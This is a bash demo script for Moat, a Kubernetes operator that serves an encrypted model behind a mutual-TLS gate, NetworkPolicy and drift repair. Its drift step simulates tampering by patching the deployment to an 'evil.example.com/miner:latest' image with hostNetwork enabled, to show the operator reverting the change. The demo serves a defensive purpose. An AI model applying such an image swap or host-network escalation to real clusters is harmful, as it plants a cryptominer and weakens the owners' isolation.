#!/usr/bin/env bash
# `make demo`: Moat installed with its Helm chart on the local cluster, serving
# examples/quickstart.yaml as real pods on the cluster's real node.
#
# - Moat's image is built from the release binary (no container daemon: e2e/moat-image.sh) and
#   pushed to the cluster's registry; the chart runs it as two leader-elected operator pods with
#   its ServiceAccount, RBAC and NetworkPolicy, and the model's pods use it as the decrypting
#   init container. The operator watches the demo's namespaces only (RoleBindings there), so the
#   e2e tests' own operators never meet it.
# - The model server is a small real one (e2e/model-server: Python, a logistic regression),
#   listening on its pod's loopback behind Moat's gate; pushed under a tag that the operator
#   resolves to a digest and pins.
# - The encrypted model comes over HTTPS from an artifact store in the cluster (namespace
#   model-artifacts, a certificate from its own CA).
# - A pod of the consented client calls the model over mutual TLS through the gate and gets an
#   answer; a pod the model did not declare is stopped by the NetworkPolicy, and one without a
#   certificate by the gate (401, in its audit log). Then a change behind Moat's back is
#   reverted.
#
# The cluster and the demo's objects stay up afterwards.
set -euo pipefail
cd "$(dirname "$0")/.."
[ "${MOAT_REAL_NODE:-1}" = 1 ] || { echo "make demo runs Moat on the real node; unset MOAT_REAL_NODE=0" >&2; exit 1; }
e2e/cluster.sh up >/dev/null
eval "$(e2e/cluster.sh env)"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
# How long the demo waits for a state (pods ready, the Lease taken, the model Ready, a drift
# repaired) before it gives up. A deadline only bounds a failure: on an idle machine each of these
# takes seconds, but a machine whose cores are busy with other builds can take minutes.
DEADLINE=${MOAT_DEMO_DEADLINE:-300}
NS=moat-system
RELEASE=moat
STATE=${MOAT_CACHE:-$HOME/.cache/moat}/demo
mkdir -p "$STATE"
REGISTRY=$MOAT_NODE_REGISTRY
REGISTRY_PUSH=$MOAT_NODE_REGISTRY_PUSH
PYTHON=/usr/bin/python3
SERVE=/app/serve.py

# Namespaces whose pods run on the real node (the API server's PodNodeSelector and
# PodTolerationRestriction plugins), enforcing Pod Security "restricted". Labelled and annotated
# imperatively: `kubectl apply` of the quickstart's Namespaces later keeps what it did not set.
real_namespace() {
  kubectl get namespace "$1" >/dev/null 2>&1 || kubectl create namespace "$1" --save-config >/dev/null
  kubectl label namespace "$1" --overwrite >/dev/null \
    pod-security.kubernetes.io/enforce=restricted pod-security.kubernetes.io/enforce-version=latest
  kubectl annotate namespace "$1" --overwrite >/dev/null \
    scheduler.alpha.kubernetes.io/node-selector=moat.dev/real-node=true \
    'scheduler.alpha.kubernetes.io/defaultTolerations=[{"key":"moat.dev/real-node","operator":"Exists","effect":"NoSchedule"}]'
}

# Waits until SecureModelDeployment $1 in namespace $2 is Ready for its current spec: Ready=True,
# and status.observedGeneration and the condition's observedGeneration equal metadata.generation
# (`kubectl wait --for=condition=Ready` would also accept a Ready left from an earlier spec).
wait_ready() {
  local deadline=$((SECONDS + DEADLINE)) state generation observed ready ready_generation
  while :; do
    state=$(kubectl get smd "$1" -n "$2" -o jsonpath='{.metadata.generation} {.status.observedGeneration} {.status.conditions[?(@.type=="Ready")].status} {.status.conditions[?(@.type=="Ready")].observedGeneration}' 2>/dev/null || true)
    read -r generation observed ready ready_generation <<<"$state" || true
    if [ -n "${generation:-}" ] && [ "$generation" = "${observed:-}" ] &&
      [ "${ready:-}" = "True" ] && [ "$generation" = "${ready_generation:-}" ]; then
      echo "securemodeldeployment.moat.dev/$1 condition met (Ready at generation $generation)"
      return 0
    fi
    if [ $SECONDS -ge $deadline ]; then
      echo "smd/$1 was not Ready at its current generation within ${DEADLINE}s (generation, observed, Ready, its generation: $state)" >&2
      kubectl get smd "$1" -n "$2" -o jsonpath='{.status.conditions}' >&2 || true
      kubectl get pods -n "$2" -o wide >&2 || true
      return 1
    fi
    sleep 0.5
  done
}

# A pod of the model server image in namespace $1, named $2 (label app=$2), as ServiceAccount $3
# (no token), running `$4...`; waits until it runs. MOUNT="secret:NAME:PATH" or
# "configmap:NAME:PATH" entries in the array MOUNTS are mounted read-only.
python_pod() {
  local ns=$1 name=$2 sa=$3; shift 3
  local command volumes="" mounts="" m kind ref path i=0
  command=$(printf '"%s",' "$@")
  for m in "${MOUNTS[@]}"; do
    IFS=: read -r kind ref path <<<"$m"
    i=$((i + 1))
    if [ "$kind" = secret ]; then
      volumes+="{\"name\": \"v$i\", \"secret\": {\"secretName\": \"$ref\"}},"
    else
      volumes+="{\"name\": \"v$i\", \"configMap\": {\"name\": \"$ref\"}},"
    fi
    mounts+="{\"name\": \"v$i\", \"mountPath\": \"$path\", \"readOnly\": true},"
  done
  kubectl create serviceaccount "$sa" -n "$ns" --dry-run=client -o yaml | kubectl apply -f - >/dev/null
  kubectl delete pod "$name" -n "$ns" --ignore-not-found --wait=true >/dev/null
  kubectl apply -f - >/dev/null <<EOF
{"apiVersion": "v1", "kind": "Pod",
 "metadata": {"name": "$name", "namespace": "$ns", "labels": {"app": "$name"}},
 "spec": {
   "serviceAccountName": "$sa", "automountServiceAccountToken": false,
   "securityContext": {"runAsNonRoot": true, "runAsUser": 10003, "runAsGroup": 10003,
                       "seccompProfile": {"type": "RuntimeDefault"}},
   "containers": [{"name": "main", "image": "$SERVER_IMAGE", "command": [${command%,}],
     "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]},
                         "readOnlyRootFilesystem": true},
     "resources": {"limits": {"cpu": "200m", "memory": "128Mi"}, "requests": {"cpu": "10m", "memory": "32Mi"}},
     "volumeMounts": [${mounts%,}]}],
   "volumes": [${volumes%,}]}}
EOF
  kubectl wait pod "$name" -n "$ns" --for=condition=Ready --timeout="${DEADLINE}s" >/dev/null
}

# The demo's own namespaces start afresh (an earlier demo's pods, Events and certificates go).
kubectl delete namespace moat-demo payments model-artifacts --ignore-not-found --wait=true --timeout="${DEADLINE}s" >/dev/null

step "building moat (release) and the images, without a container daemon"
cargo build --quiet --release --bin moat
MOAT=${CARGO_TARGET_DIR:-target}/release/moat
MOAT_IMAGE=$(bash e2e/moat-image.sh "$MOAT")
SERVER_IMAGE=$(bash e2e/model-server-image.sh)
# The model's team publishes the server under a tag; Moat resolves it and pins the digest.
# (Pushed through the registry's loopback endpoint; the cluster's end of it is read-only.)
skopeo copy --quiet --src-cert-dir "$MOAT_NODE_REGISTRY_CERTS" --dest-cert-dir "$MOAT_NODE_REGISTRY_CERTS" \
  "docker://$REGISTRY_PUSH/${SERVER_IMAGE#*/}" "docker://$REGISTRY_PUSH/serving/fraud-scorer:v3"
echo "moat:         $MOAT_IMAGE"
echo "model server: $REGISTRY/serving/fraud-scorer:v3 (is $SERVER_IMAGE)"

step "installing the chart (helm upgrade --install $RELEASE charts/moat -n $NS): two operator pods"
# The operator's namespace, and the two it watches (its RoleBindings go there).
for ns in "$NS" moat-demo payments; do real_namespace "$ns"; done
# A CRD left by an earlier install or by `make install` is handed to this release, as the README
# describes (Helm refuses to adopt objects it did not create otherwise).
for crd in securemodeldeployments.moat.dev modelclients.moat.dev; do
  if kubectl get crd "$crd" >/dev/null 2>&1; then
    kubectl label crd "$crd" app.kubernetes.io/managed-by=Helm --overwrite >/dev/null
    kubectl annotate crd "$crd" --overwrite \
      meta.helm.sh/release-name=$RELEASE meta.helm.sh/release-namespace=$NS >/dev/null
  fi
done
kubectl create configmap registry-ca -n "$NS" --from-file=ca.crt="$MOAT_NODE_REGISTRY_CA" \
  --dry-run=client -o yaml | kubectl apply -f - >/dev/null
# NetworkPolicies see the API server's endpoint (the host end of the node's veth), not the
# kubernetes Service.
api_port=$(kubectl get endpointslices -n default -l kubernetes.io/service-name=kubernetes -o jsonpath='{.items[0].ports[0].port}')
# The chart's admission policy lets only Moat and Kubernetes' own controllers write Moat's
# children. kwokctl runs kube-controller-manager with the admin's kubeconfig, so on this cluster
# the garbage collector and the namespace controller act as the admin: exempt that identity too
# (which also lets the drift step below act as the admin; e2e/tests/admission.rs shows a user
# with the edit role refused).
admin=$(kubectl auth whoami -o jsonpath='{.status.userInfo.username}')
controllers="system:serviceaccount:kube-system:generic-garbage-collector,system:serviceaccount:kube-system:namespace-controller,system:kube-controller-manager,$admin"
helm upgrade --install "$RELEASE" charts/moat -n "$NS" --force-conflicts --wait --timeout "${DEADLINE}s" \
  --set image.repository="${MOAT_IMAGE%@*}" --set image.digest="${MOAT_IMAGE#*@}" \
  --set registries.allowed="{$REGISTRY}" --set registries.caBundleConfigMap=registry-ca \
  --set registries.egress.cidrs="{$MOAT_NODE_HOST_IP/32}" --set registries.egress.ports="{${REGISTRY##*:}}" \
  --set networkPolicy.apiServerCIDRs="{$MOAT_NODE_HOST_IP/32}" --set networkPolicy.apiServerPorts="{$api_port}" \
  --set watchNamespaces="{moat-demo,payments}" --set logging.format=text \
  --set admissionPolicy.kubernetesControllers="{$controllers}"
kubectl get pods -n "$NS" -l app.kubernetes.io/instance=$RELEASE -o wide
# The leader: the holder of the Lease, a pod of this release that is ready and not going away (a
# pod of an earlier release may still hold it while it terminates).
leader() {
  local deadline=$((SECONDS + DEADLINE)) holder state
  while :; do
    holder=$(kubectl get lease "$RELEASE" -n "$NS" -o jsonpath='{.spec.holderIdentity}' 2>/dev/null || true)
    if [ -n "$holder" ]; then
      state=$(kubectl get pod "${holder%_*}" -n "$NS" -o jsonpath='{.metadata.deletionTimestamp}/{.status.conditions[?(@.type=="Ready")].status}' 2>/dev/null || true)
      [ "$state" = "/True" ] && { echo "$holder"; return 0; }
    fi
    [ $SECONDS -lt $deadline ] || { echo "no ready operator pod held the Lease within ${DEADLINE}s (holder: ${holder:-none})" >&2; return 1; }
    sleep 0.5
  done
}
holder=$(leader)
echo "leader: $holder (Lease $NS/$RELEASE); the other replica stands by"
echo "What the chart lets the operator do in moat-demo (kubectl auth can-i --list -n moat-demo):"
kubectl auth can-i --list -n moat-demo --as "system:serviceaccount:$NS:$RELEASE" | grep -E 'moat.dev|apps|networking|policy|serviceaccounts|services|events|leases'

step "an artifact store in the cluster (namespace model-artifacts, HTTPS from its own CA)"
real_namespace model-artifacts
store=$STATE/store
rm -rf "$store" && mkdir -p "$store/model"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 \
  -subj "/CN=model-artifacts CA" -keyout "$store/ca.key" -out "$store/ca.crt" 2>/dev/null
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj "/CN=artifact-store" \
  -keyout "$store/tls.key" -out "$store/tls.csr" 2>/dev/null
openssl x509 -req -in "$store/tls.csr" -CA "$store/ca.crt" -CAkey "$store/ca.key" -CAcreateserial -days 30 \
  -extfile <(printf 'subjectAltName=DNS:artifact-store.model-artifacts.svc.cluster.local,DNS:artifact-store.model-artifacts.svc\nextendedKeyUsage=serverAuth\n') \
  -out "$store/tls.crt" 2>/dev/null
rm -f "$store/ca.key" "$store/tls.csr"
kubectl create secret tls artifact-store-tls -n model-artifacts --cert="$store/tls.crt" --key="$store/tls.key" \
  --dry-run=client -o yaml | kubectl apply -f - >/dev/null
rm -f "$store/tls.key"

step "the model's team: a key (moat keygen), the model, encrypted (moat encrypt) and uploaded"
# The identity goes straight into the cluster; only the recipient (public) is kept here.
"$MOAT" keygen --name fraud-scorer-key --namespace moat-demo --recipient-file "$STATE/recipient.txt" |
  kubectl apply -f -
# A logistic regression over two features, and its weights file.
echo '{"features": ["amount", "night"], "weights": [0.002, 1.5], "bias": -3.0}' >"$store/model/model.json"
head -c 512K /dev/urandom >"$store/model/weights.bin"
"$MOAT" encrypt -R "$STATE/recipient.txt" "$store/model" -o "$store/v3.tar.age"
sha=$(sha256sum "$store/v3.tar.age" | cut -d' ' -f1)
echo "encrypted model: $(du -h "$store/v3.tar.age" | cut -f1), sha256 $sha"
# Server-side apply: a client-side one would copy the artifact into an annotation.
kubectl create configmap fraud-v3 -n model-artifacts --from-file=v3.tar.age="$store/v3.tar.age" \
  --dry-run=client -o yaml | kubectl apply --server-side --force-conflicts -f - >/dev/null
kubectl create service clusterip artifact-store -n model-artifacts --tcp=8443:8443 \
  --dry-run=client -o yaml | kubectl apply -f - >/dev/null
MOUNTS=("configmap:fraud-v3:/srv/fraud" "secret:artifact-store-tls:/tls")
python_pod model-artifacts artifact-store artifact-store \
  "$PYTHON" "$SERVE" files --dir /srv --port 8443 --cert /tls/tls.crt --key /tls/tls.key
echo "serving https://artifact-store.model-artifacts.svc.cluster.local:8443/fraud/v3.tar.age"
kubectl create configmap artifacts-ca -n moat-demo --from-file=ca.crt="$store/ca.crt" \
  --dry-run=client -o yaml | kubectl apply -f - >/dev/null
# The cluster's registry is anonymous; a private one needs these credentials.
printf '{"auths": {"%s": {"auth": "%s"}}}' "$REGISTRY" "$(printf 'demo:demo' | base64)" >"$STATE/dockerconfig.json"
kubectl create secret generic registry-credentials -n moat-demo --type=kubernetes.io/dockerconfigjson \
  --from-file=.dockerconfigjson="$STATE/dockerconfig.json" --dry-run=client -o yaml | kubectl apply -f - >/dev/null

step "applying examples/quickstart.yaml (its registry is the cluster's, its sha256 this model's)"
sed -e "s#registry.example.com/serving/vllm:v0.6.3#$REGISTRY/serving/fraud-scorer:v3#" \
  -e "s#^    sha256: .*#    sha256: $sha#" examples/quickstart.yaml | kubectl apply -f -
wait_ready fraud-scorer moat-demo
kubectl get smd -n moat-demo
kubectl get pods -n moat-demo -o wide

step "the tag was resolved once and pinned; the pods run the digest"
kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{"status.image: "}{.status.image}{"\n"}'
kubectl get events.events.k8s.io -n moat-demo --field-selector reason=ImagePinned -o custom-columns=NOTE:.note
pod=$(kubectl get pods -n moat-demo -l moat.dev/deployment=fraud-scorer -o jsonpath='{.items[0].metadata.name}')

step "in pod $pod: the init container fetched, verified and decrypted the model; the server read it"
kubectl logs -n moat-demo "$pod" -c decrypt-model
kubectl logs -n moat-demo "$pod" -c server | sed -n 1,2p
echo "the key is mounted in the init container only:"
kubectl get pod "$pod" -n moat-demo -o jsonpath='{range .spec.initContainers[*]}{.name}{": "}{range .volumeMounts[*]}{.name}{" "}{end}{"\n"}{end}{range .spec.containers[*]}{.name}{": "}{range .volumeMounts[*]}{.name}{" "}{end}{"\n"}{end}'

step "the consented client (payments/checkout, ServiceAccount checkout) calls the model over mTLS"
deadline=$((SECONDS + DEADLINE))
until kubectl get secret fraud-scorer-client -n payments >/dev/null 2>&1; do
  [ $SECONDS -lt $deadline ] || { echo "the client certificate Secret did not appear within ${DEADLINE}s" >&2; kubectl get modelclient -n payments -o yaml >&2; exit 1; }
  sleep 0.5
done
MOUNTS=("secret:fraud-scorer-client:/var/run/client")
python_pod payments checkout checkout "$PYTHON" -c "import time; time.sleep(10**9)"
# The stranger trusts Moat's CA (public), so only the NetworkPolicy can stop it.
kubectl get secret fraud-scorer-client -n payments -o jsonpath='{.data.ca\.crt}' | base64 -d >"$STATE/moat-ca.crt"
kubectl create configmap moat-ca -n payments --from-file=ca.crt="$STATE/moat-ca.crt" --dry-run=client -o yaml |
  kubectl apply -f - >/dev/null
MOUNTS=("configmap:moat-ca:/var/run/client")
python_pod payments stranger stranger "$PYTHON" -c "import time; time.sleep(10**9)"
url=https://fraud-scorer.moat-demo.svc.cluster.local:8000/v1/score
data='{"features": {"amount": 1200, "night": 1}}'
# `call POD [ARGS...]`: the request from POD; its output (status and body, or why it failed).
call() {
  local pod=$1; shift
  kubectl exec -n payments "$pod" -- "$PYTHON" "$SERVE" request "$url" --timeout 3 --data "$data" "$@" 2>&1
}
echo "\$ kubectl exec -n payments checkout -- serve.py request $url --cert ... --data '$data'"
# Asked until answered: kube-router admits a new client pod once it has added the pod's address
# to the model's ingress rules.
deadline=$((SECONDS + DEADLINE))
until out=$(call checkout --ca /var/run/client/ca.crt --cert /var/run/client/tls.crt --key /var/run/client/tls.key); do
  [ $SECONDS -lt $deadline ] || { echo "the consented client got no answer within ${DEADLINE}s: $out" >&2; exit 1; }
  sleep 0.5
done
echo "$out"
echo "the same pod without its certificate (refused by Moat's gate):"
out=$(call checkout --ca /var/run/client/ca.crt) && { echo "a client without a certificate was answered: $out" >&2; exit 1; }
echo "$out"
case $out in 401*NoCertificate*) ;; *) echo "refused for another reason" >&2; exit 1 ;; esac
# The gate's audit log has the refusal (one JSON line per request, on the gate's stdout).
deadline=$((SECONDS + DEADLINE))
until line=$(kubectl logs -n moat-demo -l moat.dev/deployment=fraud-scorer -c gate --tail=-1 | grep -m1 '"reason":"NoCertificate"'); do
  [ $SECONDS -lt $deadline ] || { echo "no gate logged the refusal within ${DEADLINE}s" >&2; exit 1; }
  sleep 0.5
done
echo "the gate's audit log: $line"
echo "a pod the model did not declare (payments/stranger: stopped by the NetworkPolicy):"
out=$(call stranger --ca /var/run/client/ca.crt) && { echo "an undeclared pod was answered: $out" >&2; exit 1; }
echo "$out"
case $out in *"Connection refused"* | *"timed out"*) ;; *) echo "refused for another reason" >&2; exit 1 ;; esac

step "drift: someone swaps the image and turns on hostNetwork behind Moat's back"
want=$(kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{.status.image.pinned}')
# What records a repair, before this one (the namespace, and its Events, outlive earlier demos).
repairs() { kubectl get smd fraud-scorer -n moat-demo -o jsonpath='{.status.drift.repairs}'; }
drift_events() {
  kubectl get events.events.k8s.io -n moat-demo --field-selector reason=DriftRepaired \
    -o jsonpath='{range .items[*]}{.metadata.name}:{.series.count} {end}'
}
repairs_before=$(repairs)
events_before=$(drift_events)
kubectl patch deployment fraud-scorer -n moat-demo --type strategic \
  -p '{"spec":{"template":{"spec":{"hostNetwork":true,"containers":[{"name":"server","image":"evil.example.com/miner:latest"}]}}}}'
start=$(date +%s%N)
deadline=$((SECONDS + DEADLINE))
while :; do
  image=$(kubectl get deployment fraud-scorer -n moat-demo -o jsonpath='{.spec.template.spec.containers[0].image}')
  host=$(kubectl get deployment fraud-scorer -n moat-demo -o jsonpath='{.spec.template.spec.hostNetwork}')
  [ "$image" = "$want" ] && [ "$host" != "true" ] && break
  [ $SECONDS -lt $deadline ] || { echo "the drift was not reverted within ${DEADLINE}s: image=$image hostNetwork=$host" >&2; exit 1; }
  sleep 0.05
done
echo "reverted in $(( ($(date +%s%N) - start) / 1000000 )) ms: image=$image hostNetwork=${host:-unset}"
# Moat counts the repair in status.drift after it has applied every child, and records the Event
# in the background: wait for both rather than for a fixed time.
until [ "$(repairs)" -gt "${repairs_before:-0}" ] 2>/dev/null && [ "$(drift_events)" != "$events_before" ]; do
  [ $SECONDS -lt $deadline ] || { echo "the repair was not recorded within ${DEADLINE}s (status.drift.repairs $(repairs), before ${repairs_before:-none})" >&2; exit 1; }
  sleep 0.2
done
kubectl get events.events.k8s.io -n moat-demo --field-selector reason=DriftRepaired -o custom-columns=KIND:.related.kind,OBJECT:.related.name,NOTE:.note
wait_ready fraud-scorer moat-demo
echo "the pods left are the hardened ones (Pod Security refused the hostNetwork pods):"
kubectl get pods -n moat-demo -l moat.dev/deployment=fraud-scorer -o custom-columns=NAME:.metadata.name,STATUS:.status.phase,IMAGE:.spec.containers[0].image

holder=$(leader)
step "the leader's metrics (pod ${holder%_*})"
leader_ip=$(kubectl get pod "${holder%_*}" -n "$NS" -o jsonpath='{.status.podIP}')
curl -fsS "http://$leader_ip:8080/metrics" | grep -E '^moat_(leader|reconcile_total|drift_repairs_total|managed_objects|image_resolutions_total)' || true

step "done"
echo "The cluster is still running: export KUBECONFIG=$KUBECONFIG  (stop it with 'make cluster-down')."
echo "Call the model again: kubectl exec -n payments checkout -- $PYTHON $SERVE request $url --ca /var/run/client/ca.crt --cert /var/run/client/tls.crt --key /var/run/client/tls.key --data '$data'"
echo "Remove the chart with 'helm uninstall $RELEASE -n $NS' (the CRDs and your models stay)."
echo "Render the children offline: $MOAT render -f examples/quickstart.yaml"
